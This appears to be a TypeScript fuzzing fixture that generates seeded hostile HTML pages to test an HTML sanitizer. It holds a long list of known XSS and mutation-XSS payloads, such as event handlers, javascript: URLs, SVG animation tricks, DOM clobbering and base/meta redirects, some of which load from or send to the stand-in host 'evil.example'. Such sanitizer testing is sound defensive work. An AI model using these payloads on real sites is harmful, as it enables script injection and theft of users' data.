// Pages that try to run a script, or to send something, by HTML that parsers read in different ways: pieces of known attacks,
// nested and cut at random. The same for the same seed.

import { createRandom } from './createRandom.ts'

/** Runs, if it ever does. */
const run = 'window.attacked=1'
/** Nothing of it may be asked for but pictures and media, which documentation may have from elsewhere. */
export const foreignHost = 'evil.example'
const foreign = `https://${foreignHost}`

/** Elements whose content a parser reads by other rules, or that move what follows. */
const wrappers: readonly (readonly [opening: string, closing: string])[] = [
  ['<svg>', '</svg>'],
  ['<math>', '</math>'],
  ['<math><mtext>', '</mtext></math>'],
  ['<math><mi>', '</mi></math>'],
  ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
  ['<math><annotation-xml encoding="application/xhtml+xml">', '</annotation-xml></math>'],
  ['<math><mglyph><style>', '</style></mglyph></math>'],
  ['<math><malignmark>', '</malignmark></math>'],
  ['<svg><foreignObject>', '</foreignObject></svg>'],
  ['<svg><desc>', '</desc></svg>'],
  ['<svg><title>', '</title></svg>'],
  ['<svg><style>', '</style></svg>'],
  ['<svg><a xlink:href="javascript:window.attacked=1"><text>', '</text></a></svg>'],
  ['<style>', '</style>'],
  ['<title>', '</title>'],
  ['<noscript>', '</noscript>'],
  ['<noscript><p title="', '"></noscript>'],
  ['<template>', '</template>'],
  ['<template shadowrootmode="open">', '</template>'],
  ['<xmp>', '</xmp>'],
  ['<noembed>', '</noembed>'],
  ['<noframes>', '</noframes>'],
  ['<textarea>', '</textarea>'],
  ['<iframe>', '</iframe>'],
  ['<iframe srcdoc="', '"></iframe>'],
  ['<select><option>', '</option></select>'],
  ['<table><caption>', '</caption></table>'],
  ['<table><tr><td>', '</td></tr></table>'],
  ['<table>', '</table>'],
  ['<form>', '</form>'],
  ['<form id="x"><div></form><form>', '</form>'],
  ['<a href="#">', '</a>'],
  ['<p id="', '">'],
  ['<img alt="', '">'],
  ['<!--', '-->'],
  ['<!-->', '-->'],
  ['<![CDATA[', ']]>'],
  ['<?xml ', '?>'],
  ['<b><p>', '</b></p>'],
  ['<dialog open>', '</dialog>'],
  ['<details open ontoggle="window.attacked=1">', '</details>'],
  ['<shop-widget data-x="', '"></shop-widget>'],
]

/** What is to run, to be sent, or to change the page around it. */
const payloads: readonly string[] = [
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}//`,
  `<script>${run}</script>`,
  `<script src="${foreign}/a.js"></script>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}"></script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:${run}"/><text>x</text></a></svg>`,
  `<svg><set attributeName="href" to="javascript:${run}"></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"/></svg>`,
  `<svg><image href="${foreign}/p.png" onerror=${run}></svg>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="java\tscript:${run}">x</a>`,
  `<a href="&#106;avascript:${run}">x</a>`,
  `<a href=" \u0001javascript:${run}">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `<a href="#" ping="${foreign}/ping" onclick=${run}>x</a>`,
  `<area href="javascript:${run}">`,
  `<math href="javascript:${run}">x</math>`,
  `<math><maction actiontype="statusline#${foreign}" xlink:href="javascript:${run}">x</maction></math>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe src="${foreign}/frame"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<object data="${foreign}/o"></object>`,
  `<embed src="javascript:${run}">`,
  `<embed src="${foreign}/e">`,
  `<form action="${foreign}/send"><button>Send</button></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<input autofocus onfocus=${run}>`,
  `<input type=image src=x onerror=${run}>`,
  `<isindex action="javascript:${run}">`,
  `<video src=x onerror=${run}><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<body onload=${run}>`,
  `<html onmouseover=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<p onanimationstart=${run} style="animation: x 1s">x</p>`,
  `<p style="background: url(${foreign}/css.png); position: fixed; inset: 0">x</p>`,
  `<style>@import "${foreign}/a.css"; * { background: url("${foreign}/b.png") }</style>`,
  `<link rel="stylesheet" href="${foreign}/a.css">`,
  `<link rel="prefetch" href="${foreign}/p">`,
  `<meta http-equiv="refresh" content="0;url=${foreign}/">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<base href="${foreign}/">`,
  `<img srcset="${foreign}/1.png 1x, javascript:${run} 2x">`,
  `<img name="body"><img name="documentElement"><a id="location" href="${foreign}"></a>`,
  `<form name="attributes"><input name="parentNode"><input name="removeChild"></form>`,
  `<template><script>${run}</script></template>`,
  `<shop-widget onclick=${run}></shop-widget>`,
  `<span is="x-y" onclick=${run}></span>`,
  `</main></body></html><script>${run}</script>`,
  '\u0000<\u0000script>',
  '\ud800<img src=x onerror=window.attacked=1>\udfff',
]

/** Ends whatever a case has left open, as far as that is possible. */
const end =
  `</script></style></title></textarea></xmp></noembed></noframes></iframe></noscript></template>` +
  `]]>--></select></table></form></svg></math></a></b></p>`

const shuffledCase = (text: string, random: () => number): string =>
  random() < 0.2
    ? text.replaceAll(/[a-z]/g, (one) => (random() < 0.5 ? one.toUpperCase() : one))
    : text

/** One attack: a payload in up to four wrappers, of which some do not close, cut now and then. */
function hostileHtml(random: () => number): string {
  const pick = <Item>(items: readonly Item[]): Item =>
    items[Math.floor(random() * items.length)] as Item
  let html = pick(payloads)
  for (let depth = Math.floor(random() * 5); depth > 0; depth--) {
    const [opening, closing] = pick(wrappers)
    const [, other] = pick(wrappers)
    const ending = random()
    html = opening + html + (ending < 0.6 ? closing : ending < 0.8 ? other : '')
    if (random() < 0.15) html += pick(payloads)
  }
  if (random() < 0.1) html = html.slice(0, Math.floor(random() * html.length))
  return shuffledCase(html, random) + end
}

export function hostilePages(seed: number, pages: number, cases: number): readonly string[] {
  const random = createRandom(seed)
  return Array.from({ length: pages }, () =>
    Array.from({ length: cases }, () => hostileHtml(random)).join('\n'),
  )
}
